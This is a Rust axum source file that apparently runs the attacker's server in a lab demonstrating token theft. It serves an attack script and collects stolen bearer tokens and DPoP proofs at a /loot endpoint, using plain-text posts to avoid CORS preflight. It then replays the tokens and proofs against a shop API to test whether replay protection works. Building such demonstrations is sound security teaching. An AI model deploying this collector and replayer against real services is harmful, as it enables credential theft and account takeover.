use std::collections::BTreeMap;
use std::sync::{Arc, Mutex, PoisonError};
use std::time::Duration;

use axum::extract::{DefaultBodyLimit, State};
use axum::http::HeaderMap;
use axum::http::header::{ACCESS_CONTROL_ALLOW_ORIGIN, COOKIE, HeaderValue};
use axum::middleware::map_response;
use axum::response::{Html, Response};
use axum::routing::{get, post};
use axum::{Json, Router};
use reqwest::Client;
use serde::Deserialize;
use serde_json::{Value, json};

use crate::pages;

/// Is the attacker's computer. It has nobody's browser, only what was sent to it.
#[derive(Clone)]
struct Stranger {
    api: String,
    client: Client,
    loot: Arc<Mutex<BTreeMap<String, Loot>>>,
}

/// Is what a script sends home from one place.
#[derive(Clone, Deserialize)]
struct Loot {
    place: String,
    token: String,
    /// A DPoP proof that was made in the browser.
    proof: Option<String>,
}

/// Makes the attacker's server: its script, where loot goes, and a page with forms that end in the shop.
pub(crate) fn router(origin: &str, api: &str) -> Result<Router, reqwest::Error> {
    let client = Client::builder().no_proxy().timeout(Duration::from_secs(10)).build()?;
    let stranger = Stranger { api: api.to_owned(), client, loot: Arc::default() };
    let html = include_str!("stranger.html").replace("{origin}", origin);
    Ok(Router::new()
        .route("/", get(move |headers: HeaderMap| async move { page(&html, &headers) }))
        .route("/attack.js", pages::file("text/javascript", include_str!("attack.js")))
        .route("/loot", post(take))
        .route("/loot/again", post(try_again))
        .layer(DefaultBodyLimit::max(16 * 1024))
        .layer(map_response(async |mut response: Response| {
            let anybody = HeaderValue::from_static("*");
            response.headers_mut().insert(ACCESS_CONTROL_ALLOW_ORIGIN, anybody);
            response
        }))
        .with_state(stranger))
}

/// Shows what came along with the request.
fn page(html: &str, headers: &HeaderMap) -> Html<String> {
    let names = headers.get_all(COOKIE).iter().filter_map(|cookies| cookies.to_str().ok());
    let names = names.flat_map(|cookies| cookies.split(';')).filter_map(|cookie| cookie.split('=').next());
    let names: Vec<&str> = names.map(str::trim).collect();
    let told = if names.is_empty() { "none".to_owned() } else { names.join(", ") };
    Html(html.replace("{cookies}", &told.replace('&', "&amp;").replace('<', "&lt;")))
}

/// Takes loot, sent as plain text so that the browser asks nobody for permission, and tries it at once.
async fn take(State(stranger): State<Stranger>, body: String) -> Json<Value> {
    let Ok(loot) = serde_json::from_str::<Loot>(&body) else { return Json(Value::Null) };
    let alone = stranger.call("Bearer", &loot.token, None).await;
    // Once with the proof, and once more with the same.
    let (mut proved, mut proved_again) = (None, None);
    if let Some(proof) = &loot.proof {
        proved = stranger.call("DPoP", &loot.token, Some(proof)).await;
        proved_again = stranger.call("DPoP", &loot.token, Some(proof)).await;
    }
    let mut kept = stranger.loot.lock().unwrap_or_else(PoisonError::into_inner);
    if kept.len() < 32 || kept.contains_key(&loot.place) {
        kept.insert(loot.place.clone(), loot);
    }
    Json(json!({ "alone": alone, "proved": proved, "provedAgain": proved_again }))
}

/// Tries everything that was taken before.
async fn try_again(State(stranger): State<Stranger>) -> Json<BTreeMap<String, Option<u16>>> {
    let kept = stranger.loot.lock().unwrap_or_else(PoisonError::into_inner).clone();
    let mut answers = BTreeMap::new();
    for (place, loot) in kept {
        answers.insert(place, stranger.call("Bearer", &loot.token, None).await);
    }
    Json(answers)
}

impl Stranger {
    /// Calls the shop's API from here and returns the status.
    async fn call(&self, scheme: &str, token: &str, proof: Option<&str>) -> Option<u16> {
        let url = format!("{}/api/bearer/orders", self.api);
        let mut request = self.client.get(url).header("authorization", format!("{scheme} {token}"));
        if let Some(proof) = proof {
            request = request.header("dpop", proof);
        }
        Some(request.send().await.ok()?.status().as_u16())
    }
}
